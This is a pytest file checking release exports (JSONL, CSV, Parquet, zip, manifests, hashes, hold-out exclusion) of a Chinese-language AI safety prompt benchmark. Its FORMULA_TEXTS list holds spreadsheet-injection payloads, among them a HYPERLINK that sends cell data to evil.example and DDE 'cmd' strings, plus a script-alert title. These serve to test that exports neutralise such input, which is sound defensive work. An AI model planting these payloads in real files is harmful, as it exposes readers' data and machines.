"""Exports of frozen releases: formats, hashes, the hold-out, round trips and hostile text."""

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from django.core.management import call_command
from django.db import transaction

from curation.models import Prompt
from curation.services import prompts_import
from releases import release_math as rm
from releases import services as releases
from releases.models import ReleaseExport
from tests.factories import approved_prompt, approved_prompts

pytestmark = pytest.mark.django_db


def _populated_release(freeze, hostile_strings):
    approved_prompts(10, techniques=["role_play"], agreement=0.75, metadata={"difficulty": "hard", "adversarial_level": 2})
    approved_prompts(5, dimension="factuality", reference_answers=["正确答案是……", "<b>第二个</b>"])
    for i, text in enumerate(s for s in hostile_strings if "\x00" not in s):
        approved_prompt(f"{text} #{i}", dimension="privacy", sub_dimension=None)
    approved_prompt("分隔符\u2028行\u2029段\x85NEL\x1c文件分隔", dimension="privacy")
    return freeze(version="v251122", title="<script>alert('t')</script>", holdout_fraction=0.3, parent=None)


@pytest.fixture
def release(taxonomy, freeze, media, hostile_strings):
    return _populated_release(freeze, hostile_strings)


def _files(release, scope="public"):
    releases.release_export_run(release_id=release.pk, scope=scope)
    return {e.format: e for e in ReleaseExport.objects.filter(release=release, scope=scope)}


def _sha(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def test_every_export_is_stored_with_its_sha256(release):
    exports = _files(release)
    assert set(exports) == set(releases.EXPORT_FORMATS)
    for export in exports.values():
        path = releases.export_path(export)
        assert export.status == "done" and path.is_file() and export.sha256 == _sha(path) and export.size == path.stat().st_size
        assert "exports/v251122/public/" in export.path
    assert exports["jsonl"].rows == release.public_count < release.item_count
    assert releases.release_verify(version=release.version).ok


def test_exports_reload_with_pandas_and_leave_out_the_holdout(release):
    exports = _files(release)
    public_ids = set(release.items.filter(is_holdout=False).values_list("public_id", flat=True))
    jsonl = pd.read_json(releases.export_path(exports["jsonl"]), lines=True)
    csv_path = releases.export_path(exports["csv"])
    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    table = pd.read_csv(csv_path, encoding="utf-8-sig", keep_default_na=False)
    parquet = pd.read_parquet(releases.export_path(exports["parquet"]))
    for frame in (jsonl, table, parquet):
        assert set(frame["question_id"]) == public_ids
        assert set(frame["version"]) == {"v251122"}
    texts = dict(release.items.values_list("public_id", "text"))
    for frame in (jsonl, table, parquet):
        assert all(texts[q] == t for q, t in zip(frame["question_id"], frame["question_text"], strict=True))
    assert set(jsonl["dimension"]) <= {"合法性", "事实性", "隐私性"}
    assert list(jsonl.columns[:9]) == [
        "question_id", "version", "dimension", "sub_dimension", "question_text", "language", "reference_answer",
        "metadata", "release_date",
    ]
    first = json.loads(releases.export_path(exports["jsonl"]).read_text(encoding="utf-8").splitlines()[0])
    assert set(first["metadata"]) == {"type", "difficulty", "category", "adversarial_level", "tags", "source"}
    assert "holdout" not in first["extra"]


def test_every_jsonl_record_verifies_against_the_manifest(release):
    exports = _files(release, scope="full")
    lines = releases.export_path(exports["jsonl"]).read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == release.item_count
    assert sum(r["extra"]["holdout"] for r in records) == release.item_count - release.public_count
    assert all(rm.verify_record(r) for r in records)
    manifest = json.loads(releases.export_path(exports["manifest"]).read_text(encoding="utf-8"))
    assert manifest["digest"] == release.digest == rm.digest_of(r["extra"]["sha256"] for r in records)
    assert manifest["item_hashes"] == sorted(r["extra"]["sha256"] for r in records)
    public = [r["extra"]["sha256"] for r in records if not r["extra"]["holdout"]]
    assert manifest["public_digest"] == rm.digest_of(public)


def test_zip_holds_every_file_and_matching_sha256sums(release):
    exports = _files(release)
    with zipfile.ZipFile(releases.export_path(exports["zip"])) as zf:
        names = zf.namelist()
        sums = dict(line.split("  ")[::-1] for line in zf.read("livesec-v251122/SHA256SUMS").decode().splitlines())
        for name, digest in sums.items():
            assert hashlib.sha256(zf.read(f"livesec-v251122/{name}")).hexdigest() == digest
    assert sorted(sums) == sorted(
        ["livesec-v251122.jsonl", "livesec-v251122.csv", "livesec-v251122.parquet", "manifest.json", "README.md"]
    )
    assert len(names) == 6
    assert sums["livesec-v251122.jsonl"] == exports["jsonl"].sha256


def test_exports_are_byte_for_byte_reproducible(release):
    first = {f: e.sha256 for f, e in _files(release).items()}
    second = {f: e.sha256 for f, e in _files(release).items()}
    assert first == second


def test_dataset_card_covers_counts_taxonomy_agreement_provenance_license_and_verification(release):
    card = releases.export_path(_files(release)["readme"]).read_text(encoding="utf-8")
    for needle in ("## Counts by dimension", "合法性", "v251030", "## Annotation agreement", "mean 0.75",
                   "## Provenance", "## License", "## Intended use", "## How to verify", release.public_digest):
        assert needle in card, needle
    assert "<script>" not in card


def test_exports_round_trip_through_our_importer(taxonomy, freeze, media, hostile_strings):
    """Export, then import the public JSONL and CSV into a fresh pool: same texts, dimensions, sub-dimensions
    and techniques."""

    class Undo(Exception):
        pass

    try:
        with transaction.atomic():  # everything but the taxonomy is rolled back: the pool starts fresh below
            release = _populated_release(freeze, hostile_strings)
            exports = _files(release)
            files = {
                "export.jsonl": releases.export_path(exports["jsonl"]).read_bytes(),
                "export.csv": releases.export_path(exports["csv"]).read_bytes(),
            }
            public = release.items.filter(is_holdout=False)
            expected = sorted(public.values_list("text", "dimension_code", "sub_dimension_code"))
            techniques = {i.text: sorted(i.labels["techniques"]) for i in public}
            raise Undo
    except Undo:
        pass
    assert not Prompt.objects.exists()
    for name, content in files.items():
        try:
            with transaction.atomic():
                report = prompts_import(content=content, filename=name, status=Prompt.Status.APPROVED)
                assert report.created == len(expected), name
                imported = Prompt.objects.select_related("dimension__taxonomy", "sub_dimension").prefetch_related("techniques")
                got = sorted((p.text, p.dimension.code, p.sub_dimension.code if p.sub_dimension else "") for p in imported)
                assert got == expected, name
                assert {p.dimension.taxonomy.code for p in imported} == {"v251030"}
                for p in imported:
                    assert sorted(t.code for t in p.techniques.all()) == techniques[p.text]
                raise Undo
        except Undo:
            pass


def test_jsonl_loads_with_hugging_face_datasets_offline(release, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    import datasets  # in the test extra
    path = releases.export_path(_files(release)["jsonl"])
    data = datasets.load_dataset("json", data_files=str(path), split="train", cache_dir=str(tmp_path / "hf"))
    assert data.num_rows == release.public_count
    assert set(data["question_id"]) == set(release.items.filter(is_holdout=False).values_list("public_id", flat=True))


def test_hostile_strings_survive_freeze_and_every_export(release, hostile_strings):
    stored = set(release.items.values_list("text", flat=True))
    wanted = {f"{s} #{i}" for i, s in enumerate(s for s in hostile_strings if "\x00" not in s)}
    wanted.add("分隔符\u2028行\u2029段\x85NEL\x1c文件分隔")
    assert wanted <= stored
    exports = _files(release, scope="full")
    lines = releases.export_path(exports["jsonl"]).read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["question_text"] for line in lines} == stored
    raw = releases.export_path(exports["csv"]).read_bytes().decode("utf-8-sig")
    assert {row["question_text"] for row in csv.DictReader(io.StringIO(raw, newline=""))} == stored
    assert set(pd.read_parquet(releases.export_path(exports["parquet"]))["question_text"]) == stored
    assert releases.release_verify(version=release.version).ok


def test_export_release_command_writes_the_file(release, tmp_path, capsys):
    call_command("export_release", release.version, "--format", "jsonl", "--out", str(tmp_path / "out"))
    out = capsys.readouterr().out
    path = tmp_path / "out" / "livesec-v251122.jsonl"
    assert path.is_file() and _sha(path) in out
    assert len(path.read_text(encoding="utf-8").splitlines()) == release.public_count
    call_command("export_release", release.version, "--format", "zip", "--out", str(tmp_path / "out"), "--full")
    assert (tmp_path / "out" / "livesec-v251122-full.zip").is_file()


def test_verify_release_notices_a_changed_export_file(release):
    export = _files(release)["csv"]
    path = releases.export_path(export)
    path.write_bytes(path.read_bytes() + b"x")
    report = releases.release_verify(version=release.version)
    assert any("export public/csv" in p for p in report.problems)


def test_exports_of_a_draft_are_refused(taxonomy, media):
    draft = releases.release_create_draft(version="v251122", taxonomy="v251030")
    with pytest.raises(releases.ReleaseError):
        releases.release_export_start(release_id=draft.pk)


FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我领取")',
    "+cmd|' /C calc'!A0 请回答",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 制表符开头",
    "\r=1+1 回车开头",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_while_jsonl_and_parquet_keep_the_raw_text(
    taxonomy, freeze, media, hostile_strings
):
    texts = [*FORMULA_TEXTS, *(s for s in hostile_strings if "\x00" not in s)]
    for text in texts:
        approved_prompt(text, dimension="privacy", reference_answers=["=1+1"], metadata={"tags": ["-x"]})
    approved_prompt("-12.5", dimension="privacy")  # a plain number is left as the number
    release = freeze(version="v251124", holdout_fraction=0, parent=None)
    exports = _files(release)
    raw = releases.export_path(exports["csv"]).read_bytes().decode("utf-8-sig")
    rows = {row["question_id"]: row for row in csv.DictReader(io.StringIO(raw, newline=""))}
    stored = dict(release.items.values_list("public_id", "text"))
    for public_id, text in stored.items():
        cell = rows[public_id]["question_text"]
        if text in FORMULA_TEXTS:
            assert cell == "'" + text
        else:
            assert cell == text
    assert rows[next(p for p, t in stored.items() if t == "-12.5")]["question_text"] == "-12.5"
    assert {row["metadata.tags"] for row in rows.values()} <= {"'-x", ""}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows.values() for cell in row.values())

    lines = releases.export_path(exports["jsonl"]).read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["question_id"]: json.loads(line)["question_text"] for line in lines} == stored
    parquet = pd.read_parquet(releases.export_path(exports["parquet"]))
    assert dict(zip(parquet["question_id"], parquet["question_text"], strict=True)) == stored
    assert [t.encode("utf-8") for t in parquet["question_text"]] == [stored[p].encode("utf-8") for p in parquet["question_id"]]

    card = releases.export_path(exports["readme"]).read_text(encoding="utf-8")
    assert "`livesec-v251124.csv` is spreadsheet-safe" in card
    assert "use `livesec-v251124.jsonl` or `livesec-v251124.parquet`: both hold every text byte for byte" in card
    assert releases.release_verify(version=release.version).ok
